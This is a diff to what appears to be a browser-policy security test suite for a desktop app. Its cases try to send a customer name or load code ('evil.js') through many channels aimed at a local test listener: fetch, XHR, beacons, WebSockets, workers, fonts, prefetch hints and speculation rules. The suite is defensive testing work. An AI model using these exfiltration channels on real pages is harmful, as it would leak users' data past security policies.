@@ -58,61 +58,40 @@ pageAttack('foreignScript', (port) =>
   }),
 );
 
-pageAttack('moduleImport', async (port) => {
-  const sources = [
-    `http://127.0.0.1:${port}/evil.js`,
-    'data:text/javascript,document.title="owned"',
-    'blob:x',
-  ];
-  const tried = sources.map((source) => window.attempt(() => import(source)));
-  return (await Promise.all(tried)).join(', ');
-});
+pageAttack('moduleImport', (port) =>
+  window.violation(() => {
+    const sources = [`http://127.0.0.1:${port}/evil.js`, 'data:text/javascript,document.title="owned"'];
+    return Promise.allSettled(sources.map((source) => import(source)));
+  }, 2),
+);
 
-pageAttack('foreignImage', (port) => {
-  const image = new Image();
-  const loaded = window.load(image);
-  image.src = `http://127.0.0.1:${port}/?name=Bullock`;
-  return loaded;
-});
+pageAttack('foreignImage', (port) =>
+  window.violation(() => {
+    new Image().src = `http://127.0.0.1:${port}/?name=Bullock`;
+  }),
+);
 
 pageAttack('fetched', (port) =>
-  window.attempt(() =>
+  window.violation(() =>
     fetch(`http://127.0.0.1:${port}/`, { method: 'POST', mode: 'no-cors', body: 'Bullock' }),
   ),
 );
 
-pageAttack('olderRequests', async (port) => {
+pageAttack('olderRequests', (port) => {
   const url = `http://127.0.0.1:${port}/`;
-  const request = new Promise((done, failed) => {
-    const xhr = new XMLHttpRequest();
-    xhr.onload = done;
-    xhr.onerror = failed;
-    xhr.open('POST', url);
-    xhr.send('Bullock');
-  });
-  const events = new Promise((done, failed) => {
-    const source = new EventSource(url);
-    source.onopen = done;
-    source.onerror = failed;
-  });
-  // Chromium says that it has queued a beacon even when its policy then refuses it: the listener has the last word.
-  navigator.sendBeacon(url, 'Bullock');
-  return [await window.attempt(() => request), await window.attempt(() => events)].join(', ');
+  return window.violation(() => {
+    const request = new XMLHttpRequest();
+    request.open('POST', url);
+    request.send('Bullock');
+    new EventSource(url).onerror = ({ target }) => (target as EventSource).close();
+    navigator.sendBeacon(url, 'Bullock');
+  }, 3);
 });
 
-pageAttack('webSocket', (port) =>
-  window.attempt(
-    () =>
-      new Promise((done, failed) => {
-        const socket = new WebSocket(`ws://127.0.0.1:${port}/`);
-        socket.onopen = done;
-        socket.onerror = failed;
-      }),
-  ),
-);
+pageAttack('webSocket', (port) => window.violation(() => new WebSocket(`ws://127.0.0.1:${port}/`)));
 
 pageAttack('webTransport', (port) =>
-  window.attempt(() => {
+  window.violation(() => {
     const Transport = Reflect.get(window, 'WebTransport');
     return new Transport(`https://127.0.0.1:${port}/`).ready;
   }),
@@ -158,35 +137,24 @@ pageAttack('plugin', (port) =>
   }),
 );
 
-pageAttack('workers', async (port) => {
+pageAttack('workers', (port) => {
   const url = `http://127.0.0.1:${port}/worker.js`;
-  const code = new Blob(['postMessage(1)']);
-  const started = (source: string) =>
-    new Promise((done, failed) => {
-      const worker = new Worker(source as never);
-      worker.onmessage = done;
-      worker.onerror = failed;
-    });
-  return [
-    await window.attempt(() => started(URL.createObjectURL(code))),
-    await window.attempt(() => started(url)),
-    await window.attempt(() => navigator.serviceWorker.register(url as never)),
-    await window.attempt(() => navigator.serviceWorker.register('/sw.js' as never)),
-  ].join(', ');
+  const code = URL.createObjectURL(new Blob(['postMessage(1)']));
+  const factory = Reflect.get(window, 'trustedTypes');
+  return window.violation(async () => {
+    await window.attempt(() => factory.createPolicy('workers', { createScriptURL: (text: string) => text }));
+    await window.attempt(() => new Worker(code as never));
+    await window.attempt(() => new Worker(url as never));
+    await window.attempt(() => navigator.serviceWorker.register(url as never));
+  }, 4);
 });
 
-pageAttack('fontsAndMedia', async (port) => {
+pageAttack('fontsAndMedia', (port) => {
   const url = `http://127.0.0.1:${port}/x`;
-  const video = document.createElement('video');
-  const played = new Promise((done, failed) => {
-    video.oncanplay = done;
-    video.onerror = failed;
-    video.src = url;
-  });
-  return [
-    await window.attempt(() => new FontFace('x', `url(${url})`).load()),
-    await window.attempt(() => played),
-  ].join(', ');
+  return window.violation(() => {
+    document.createElement('video').src = url;
+    return new FontFace('x', `url(${url})`).load();
+  }, 2);
 });
 
 pageAttack('styleRequests', async (port) => {
@@ -202,30 +170,30 @@ pageAttack('styleRequests', async (port) => {
 
 pageAttack('hints', async (port) => {
   const url = `http://127.0.0.1:${port}/`;
-  for (const rel of [
-    'prefetch',
-    'preload',
-    'modulepreload',
-    'preconnect',
-    'prerender',
-    'dns-prefetch',
-    'icon',
-  ]) {
-    const link = document.createElement('link');
-    link.rel = rel;
-    link.as = 'image';
-    link.href = url;
-    document.head.append(link);
-  }
-  const rules = document.createElement('script');
-  rules.type = 'speculationrules';
-  const tried = await window.attempt(() => {
+  const seen = await window.violation(() => {
+    for (const rel of [
+      'prefetch',
+      'preload',
+      'modulepreload',
+      'preconnect',
+      'prerender',
+      'dns-prefetch',
+      'icon',
+    ]) {
+      const link = document.createElement('link');
+      link.rel = rel;
+      link.as = 'image';
+      link.href = url;
+      document.head.append(link);
+    }
+    const rules = document.createElement('script');
+    rules.type = 'speculationrules';
     rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [url] }] });
     document.head.append(rules);
-  });
-  // A request of the page's own that comes back shows that those before it had their time.
+  }, 4);
+  // A call of the page's own that comes back shows that those before it had their time.
   await window.ringside.customer.get({ id: '1002', scope: 'studio' });
-  return `speculation rules ${tried}`;
+  return seen;
 });
 
 pageAttack('baseUri', () =>
@@ -255,6 +223,21 @@ attack('nameServer', async ({ home, openDevelopment }) => {
   const seen = await readFile(log, 'utf8');
   if (!seen.includes('/v1/customers/1001')) return 'nothing was recorded';
   return /bullock-[a-z-]+\.example/.exec(seen)?.[0] ?? 'no name was asked for';
+});
+
+attack('pastPolicy', async ({ openDevelopment, range: { listener } }) => {
+  const { app, desk } = await openDevelopment(['--demo']);
+  await desk.box.waitFor();
+  const before = listener.heard;
+  const told = await app.evaluate(async ({ session }, url) => {
+    try {
+      await session.fromPartition('page').fetch(url);
+      return 'fetched';
+    } catch (error) {
+      return (error as Error).message;
+    }
+  }, `http://127.0.0.1:${listener.port}/`);
+  return listener.heard === before ? told : 'heard outside';
 });
 
 /** Loads a URL of the page's own scheme, as its policy would allow, and tells what it was answered. */
